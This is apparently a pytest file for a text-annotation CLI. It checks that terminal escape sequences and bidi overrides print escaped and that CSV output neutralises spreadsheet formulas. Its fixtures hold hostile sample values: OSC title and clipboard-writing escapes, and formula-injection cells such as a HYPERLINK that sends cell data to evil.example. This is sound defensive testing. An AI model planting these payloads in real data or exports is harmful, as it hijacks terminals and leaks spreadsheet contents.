"""Everything the `reader` commands print goes through one guard: names, titles, sources and file
names holding terminal escapes (OSC 0 title, OSC 52 clipboard, CSI, C1) or bidi overrides are
shown escaped in tables, summaries and errors, JSON stays valid and exact, CSV keeps the data
exact in a file and escaped on a terminal, and no CSV writer writes a cell a spreadsheet runs."""

import ast
import csv
import io
import json
import re

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from reader.cli import main
from reader.core.ingest import Document
from reader.store import Store

OSC_TITLE = "\x1b]0;owned\x07"
OSC_CLIPBOARD = "\x1b]52;c;cGFzdGVk\x07"
CSI_CLEAR = "\x1b[2J"
C1_CSI = "\x9b31m"
BIDI = "\u202eevil\u202c \u2066iso\u2069 \u200fmark\u061c"
#: One of each in a name: what another program (or a crafted annotation file) can leave in the database.
HOSTILE = f"Wire{OSC_TITLE}feed{OSC_CLIPBOARD}{CSI_CLEAR}{C1_CSI}{BIDI}"
HOSTILE_PIECES = [OSC_TITLE, OSC_CLIPBOARD, CSI_CLEAR, C1_CSI, BIDI]

#: What must never be written to a terminal as it is: C0 but the line break, DEL, C1, bidi controls.
UNSAFE = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")

CONFIG = "annotator: alice\nload_samples: false\n"


def assert_terminal_safe(output: str) -> None:
    found = UNSAFE.search(output)
    assert found is None, f"{found.group()!r} reached the terminal: {output[max(0, found.start() - 30):found.end() + 30]!r}"


def assert_shown_escaped(output: str) -> None:
    """Nothing dropped: the hostile name is there, each unsafe character as its escape."""
    assert_terminal_safe(output)
    assert "\\x1b]0;owned\\x07" in output and "\\x1b]52;c;cGFzdGVk\\x07" in output and "\\u202eevil\\u202c" in output


@pytest.fixture
def workspace(tmp_path, monkeypatch):
    """A database whose source, titles, tag and annotator names hold every hostile piece."""
    monkeypatch.delenv("READER_CONFIG", raising=False)
    monkeypatch.chdir(tmp_path)
    (tmp_path / "config.yaml").write_text(CONFIG, encoding="utf-8")
    store = Store.open(tmp_path / "annotations.db")
    for number, title in enumerate(["Port strike spreads", HOSTILE]):
        text = f"Port strike {number}\n\nDockers walked out on Monday. Talks failed by noon."
        store.articles.add(Document(text=text, title=title, source=HOSTILE, url=None, path=f"/corpus/{number}.txt",
                                    published="2025-03-03", locator=""))
    store.db["tags"].insert({"name": HOSTILE})  # past the store's own check, as another program could
    for article in (1, 2):
        store.annotations.add(article, 0, 11, [HOSTILE], "alice")
        store.annotations.add(article, 0, 11, [HOSTILE], HOSTILE)
        store.annotations.add(article, 14, 21, ["conflict"], HOSTILE)
    store.close()
    return tmp_path


def run(*args: str):
    return CliRunner().invoke(main, list(args), catch_exceptions=False)


@pytest.mark.parametrize("args", [
    ("stats",), ("stats", "--by", "cooccurrence"), ("stats", "--annotator", HOSTILE),
    ("agreement",), ("agreement", "--disagreements"), ("agreement", "--annotators", "alice", HOSTILE, "--nested", "--tag", HOSTILE),
])
def test_stats_and_agreement_tables_show_hostile_names_escaped(workspace, args):
    result = run(*args)
    assert result.exit_code == 0, result.output
    assert_shown_escaped(result.output)


@pytest.mark.parametrize("args", [("stats", "--format", "json"), ("agreement", "--format", "json", "--disagreements")])
def test_json_output_is_valid_exact_and_terminal_safe(workspace, args):
    result = run(*args)
    assert_terminal_safe(result.stdout)
    data = json.loads(result.stdout)
    strings: list[str] = []

    def walk(value):
        if isinstance(value, str):
            strings.append(value)
        elif isinstance(value, dict):
            [walk(item) for pair in value.items() for item in pair]
        elif isinstance(value, list):
            [walk(item) for item in value]

    walk(data)
    assert HOSTILE in strings  # the name, exactly, once parsed


@pytest.mark.parametrize("args", [
    ("stats", "--tag", HOSTILE + "x"),  # click's BadParameter, with our message
    ("agreement", "--annotators", "alice", HOSTILE + "x"),
])
def test_error_lines_show_hostile_text_escaped(workspace, args):
    result = run(*args)
    assert result.exit_code != 0
    assert "Error" in result.output
    assert_terminal_safe(result.output)


def test_an_error_naming_a_hostile_file_is_one_escaped_line(workspace):
    bad = workspace / f"notes{OSC_TITLE}{BIDI}.yaml"
    bad.write_text("format: reader-annotations/2\narticles: [\n", encoding="utf-8")
    result = run("import-annotations", str(bad))
    assert result.exit_code == 1
    assert_terminal_safe(result.output)
    assert len(result.output.strip().splitlines()) == 1 and "\\x1b]0;owned" in result.output


def test_import_annotations_summary_shows_titles_and_names_from_the_file_escaped(workspace):
    exported = workspace / "colleague.yaml"
    exported.write_text(
        "format: reader-annotations/2\n"
        "exported: \"2026-01-01T12:00:00+00:00\"\n"
        "articles:\n"
        "- id: \"7a1c\"\n"
        "  title: \"Harbour \\e]0;owned\\a talks \\u202eevil\\u202c \\e]52;c;cGFzdGVk\\a\"\n"
        "  sha256: \"" + "0" * 64 + "\"\n"
        "  tags: []\n"
        "  annotations:\n"
        "  - {id: 0b6f6c1e-0000-4000-8000-000000000001, start: 0, end: 5, quote: Talks, prefix: '', suffix: '',\n"
        "     tags: [framing], note: null, annotator: \"bo\\e[2Jb\\u2066\",\n"
        "     created: \"2026-01-01T11:58:02+00:00\", updated: \"2026-01-01T11:58:02+00:00\"}\n",
        encoding="utf-8",
    )
    for dry in ((), ("--dry-run",)):
        result = run("import-annotations", str(exported), *dry)
        assert result.exit_code == 0, result.output
        assert "kept aside" in result.output
        assert_terminal_safe(result.output)
        # neutralised where it entered (yaml_import): the title less its control and bidi characters
        assert "“Harbour ]0;owned talks evil ]52;c;cGFzdGVk”" in result.output


def test_entities_prints_valid_exact_json_and_escaped_skips_for_hostile_file_names(workspace):
    folder = workspace / "in"
    folder.mkdir()
    named = folder / f"story{OSC_TITLE}{BIDI}.txt"
    named.write_text("Ana Lima met officials in Geneva on Tuesday.\n", encoding="utf-8")
    (folder / f"empty{OSC_CLIPBOARD}.txt").write_text("", encoding="utf-8")
    result = run("entities", str(folder))
    assert result.exit_code == 1  # one file was skipped
    assert_terminal_safe(result.output)
    assert "\\x1b]52;c;cGFzdGVk\\x07" in result.stderr  # the skipped file, named escaped
    records = [json.loads(line) for line in result.stdout.splitlines()]
    assert [record["file"] for record in records] == [str(named)]


# ---- CSV ----------------------------------------------------------------------------------

#: Formulas at the start of a cell, and one a bare carriage return would bring to the start of a new row.
FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "=1+2*3", "+cmd", "-2+3", "@SUM(1)", "\t=1", "\r=1",
            "Wire\r=HYPERLINK(\"http://evil.example/\")"]


@pytest.fixture
def formulas(tmp_path, monkeypatch):
    """Sources, titles, tags and annotators that a spreadsheet would run."""
    monkeypatch.delenv("READER_CONFIG", raising=False)
    monkeypatch.chdir(tmp_path)
    (tmp_path / "config.yaml").write_text(CONFIG, encoding="utf-8")
    store = Store.open(tmp_path / "annotations.db")
    for number, formula in enumerate(FORMULAS):
        text = f"Story {number}\n\nDockers walked out on Monday. Talks failed by noon."
        store.articles.add(Document(text=text, title=formula, source=formula, url=None, path=f"/c/{number}.txt",
                                    published="2025-03-03", locator=""))
        store.db["tags"].insert({"name": formula})
        store.annotations.add(number + 1, 0, 7, [formula], "alice", note=formula)
        store.annotations.add(number + 1, 0, 7, [formula], formula)
    store.annotations.add(1, 9, 30, [FORMULAS[1]], FORMULAS[0])  # a passage only one of them marked
    store.close()
    return tmp_path


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"))) for cell in row]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_no_formula(cells: list[str]) -> None:
    assert cells
    running = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not is_number(cell)]
    assert running == [], running
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)  # kept, made text


@pytest.mark.parametrize("args", [
    ("stats", "--by", "source", "--format", "csv"),
    ("stats", "--by", "cooccurrence", "--format", "csv"),
    ("stats", "--by", "month", "--format", "csv", "--annotator", FORMULAS[0]),
    ("agreement", "--annotators", "alice", FORMULAS[0], "--format", "csv"),
    ("agreement", "--annotators", "alice", FORMULAS[0], "--format", "csv", "--disagreements"),
    ("export", "--format", "csv"),
])
def test_every_csv_the_commands_write_guards_formulas(formulas, args):
    result = run(*args)
    assert result.exit_code == 0, result.output
    assert_no_formula(csv_cells(result.stdout))


def test_the_passages_csv_guards_formulas(formulas, tmp_path):
    from reader.core.exchange.passages_csv import write_passages_csv
    from reader.core.model import PassageQuery

    store = Store.open(formulas / "annotations.db", read_only=True)
    try:
        target = tmp_path / "passages.csv"
        pages = [store.passages.page(PassageQuery(tag=tag), 0, 100) for tag in FORMULAS]
        assert write_passages_csv(target, pages) == 2 * len(FORMULAS) + 1
    finally:
        store.close()
    assert_no_formula(csv_cells(target.read_text(encoding="utf-8")))


@pytest.mark.parametrize("args", [
    ["stats", "--by", "source", "--format", "csv"],
    ["agreement", "--format", "csv", "--disagreements"],
    ["export", "--format", "csv"],
])
def test_csv_is_exact_in_a_file_and_escaped_on_a_real_terminal(workspace, args):
    from tests.terminal import run_in_terminal

    assert HOSTILE in csv_cells(run(*args).stdout)  # a file (or a pipe) gets the data as it is
    written, code = run_in_terminal(["--config", str(workspace / "config.yaml"), *args], [])
    assert code == 0, written[-400:]
    text = written.decode("utf-8")
    assert_terminal_safe(text.replace("\r\n", "\n"))
    assert "\\x1b]0;owned\\x07" in text and "\\u202eevil" in text  # shown, escaped


# ---- the guard itself ---------------------------------------------------------------------


def test_the_cli_and_the_screen_guard_the_same_characters():
    from reader.core.safetext import terminal_line
    from reader.tui.wrap import display_text

    differ = [
        hex(code) for code in range(0x110000)
        if not 0xD800 <= code < 0xE000  # lone surrogates never reach a screen (SQLite refuses them)
        and (terminal_line(chr(code)) != chr(code)) != (display_text(chr(code)) != chr(code))
    ]
    assert differ == []
    assert terminal_line(HOSTILE + "\ud800").isprintable()


@given(st.text())
@settings(max_examples=300)
def test_json_through_the_guard_is_the_same_data_and_terminal_safe(text):
    from reader.core.safetext import terminal_json

    guarded = terminal_json(json.dumps({"name": text, "list": [text]}, ensure_ascii=False, indent=2))
    assert UNSAFE.search(guarded) is None
    assert json.loads(guarded) == {"name": text, "list": [text]}


@given(st.text())
@settings(max_examples=300)
def test_a_guarded_line_is_one_printable_line_that_shows_every_character(text):
    from reader.core.safetext import terminal_line

    shown = terminal_line(text)
    assert UNSAFE.search(shown) is None and "\n" not in shown and "\u2028" not in shown
    assert len(shown) >= len(text)
    if "\\" not in text:  # nothing dropped: undoing the escapes gives the text back
        undone = re.sub(r"\\(x[0-9a-f]{2}|u[0-9a-f]{4}|[ntr])", lambda m: ast.literal_eval(f'"\\{m.group(1)}"'), shown)
        assert undone == text
